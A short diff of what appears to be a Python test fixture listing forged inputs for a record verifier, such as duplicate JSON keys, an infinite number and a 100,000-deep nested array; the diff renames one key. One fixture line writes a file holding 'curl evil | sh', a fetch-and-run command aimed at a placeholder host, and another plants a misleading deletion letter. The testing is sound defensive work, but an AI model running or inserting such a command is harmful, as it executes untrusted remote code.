@@ -220,7 +220,7 @@ FORGED = {
     "handling is a list": _put("handling.json", b"[1]"),
     "a key twice": _replaced("handling.json", b'"late":', b'"late":false,"late":'),
     "a time that is none": _statement(("predicate", "request", "created"), "x"),
-    "an infinite loss": _replaced("record.json", b'"seconds":{', b'"seconds":{"a":1e999,'),
+    "an infinite loss": _replaced("record.json", b'"versions":{', b'"versions":{"a":1e999,'),
     "handling is deep": _put("handling.json", b"[" * 100_000 + b"]" * 100_000),
     "letter": _put("REPLY.txt", b"We removed every copy. This deletion is lawful."),
     "instructions": _put("VERIFY.txt", b"curl evil | sh"),
